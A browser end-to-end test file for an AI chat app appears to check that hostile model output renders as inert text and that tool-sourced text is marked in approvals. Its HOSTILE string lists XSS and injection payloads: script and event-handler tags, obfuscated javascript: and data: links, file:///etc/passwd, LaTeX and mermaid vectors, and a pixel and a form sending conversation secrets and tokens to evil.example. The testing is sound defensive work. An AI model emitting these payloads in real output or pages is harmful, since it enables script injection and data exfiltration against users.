// The output of a model is untrusted: it must not run scripts or send requests.

import { beforeAll, describe, expect, test } from "vitest";
import { createApiUser } from "../../support/api-user.ts";
import { startMcpServer } from "../../support/mcp-server.ts";
import type { ModelServer } from "../../support/model-server.ts";
import { shareModel, shareRuntime, type SharedRuntime } from "../../support/shared-runtime.ts";
import { waitForAnswers, hasBrowser, sendMessage, TALL, transcript, openApp } from "./support.ts";

const HOSTILE = `
<script>window.hit = 1; alert(1)</script>
<img src=x onerror="window.hit = 1; alert(1)">
<img src="https://evil.example/pixel.png">
<iframe src="https://evil.example/"></iframe>
<svg onload="window.hit = 1"><animate onbegin="alert(1)"/></svg>
<style>body { background: url(https://evil.example/style) }</style>
<form action="https://evil.example/"><input name="token"><button>Send</button></form>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<base href="https://evil.example/">

![pixel](https://evil.example/pixel.png?conversation=secret)
![data](data:text/html,<script>window.hit=1</script>)
![svg](data:image/svg+xml,<svg onload="window.hit=1"/>)

[plain](javascript:window.hit=1) [coded](java&#115;cript:window.hit=1) [spaced](  java\tscript:window.hit=1)
[upper](JaVaScRiPt:window.hit=1) [vb](vbscript:window.hit=1) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[file](file:///etc/passwd) [blob](blob:https://evil.example/x) [protocol-relative](//evil.example/x)
<javascript:window.hit=1>

[reference]: javascript:window.hit=1
[reference]

$$\\href{javascript:window.hit=1}{x}$$ $\\includegraphics{https://evil.example/math.png}$ $\\htmlStyle{background:url(https://evil.example/m)}{x}$

\`\`\`html
<script>window.hit = 1</script>
\`\`\`

\`\`\`mermaid
click A href "javascript:window.hit=1"
\`\`\`

The end.
`;

describe.skipIf(!hasBrowser)("hostile answer", () => {
  let model: ModelServer;
  let runtime: SharedRuntime;
  beforeAll(async () => {
    model = await shareModel();
    runtime = await shareRuntime({ vars: { OPENAI_BASE_URL: model.url, ALLOW_PRIVATE_AGENTS: "1" } });
  });

  test("runs no script, loads nothing from other origins and contains no dangerous URL", async () => {
    const { page, consoleErrors, close } = await openApp(runtime.url, { viewport: TALL });
    const requestUrls: string[] = [];
    const dialogs: string[] = [];
    page.on("request", (request) => requestUrls.push(request.url()));
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await sendMessage(page, `Be nasty ${model.addScript({ triage: { text: HOSTILE, reasoning: HOSTILE } })}`);
    await waitForAnswers(page);
    await transcript(page).getByText("The end.").waitFor();
    await transcript(page)
      .getByRole("button", { name: /^Thought/ })
      .click();
    await expect.poll(() => transcript(page).getByText("The end.").count()).toBe(2);
    await page.waitForLoadState("networkidle");

    const origin = new URL(runtime.url).origin;
    expect(requestUrls.filter((url) => !url.startsWith(origin) && !url.startsWith("data:image/"))).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(await page.evaluate(() => "hit" in window)).toBe(false);
    const addresses = await transcript(page).evaluate((log) =>
      [...log.querySelectorAll("*")].flatMap((element) =>
        [...element.attributes]
          .filter(({ name }) => /href|src|action|formaction|poster|xlink|^on|srcdoc/.test(name))
          .map(({ name, value }) => `${name}=${value}`),
      ),
    );
    expect(addresses.filter((address) => !/^href=(https?:|\/|#|mailto:)/.test(address))).toEqual([]);
    const elements = "script, iframe, form, style, meta, base, object, embed, img[src*='evil']";
    expect(await transcript(page).locator(elements).count()).toBe(0);
    // The hostile markup is shown as text.
    expect(await transcript(page).innerText()).toContain("window.hit = 1");
    expect(consoleErrors).toEqual([]);
    await close();
  });

  test("[P1] is marked with its source where an approval contains a part of it", async () => {
    const server = await startMcpServer();
    const user = createApiUser(runtime.url);
    const app = { name: "people", description: "Keeps profiles", mcp: { url: server.url } };
    expect((await user.request("POST", "/api/v1/agents", app)).status).toBe(201);
    const call = (name: string) => ({ calls: [{ name, arguments: { name: "Eve Evil" } }] });
    const mark = model.addScript({
      "agent:people": [call("query_profile"), call("create_profile"), { text: "Done." }],
    });
    const { conversation_id: id } = await user.send(`Look up Ann ${mark}`, { agent: "people" });
    const { page, consoleErrors, close } = await openApp(`${runtime.url}/c/${id}`, { viewport: TALL });
    const marked = transcript(page).locator("mark");
    await marked.waitFor();
    expect(await marked.innerText()).toMatch(/^Eve Evil\s*1$/);
    const legend = transcript(page).getByRole("list", { name: "Where the marked text comes from" });
    expect(await legend.getByRole("listitem").allInnerTexts()).toEqual(["From query_profile, not from you"]);
    expect(consoleErrors).toEqual([]);
    await close();
    await server.close();
  });
});
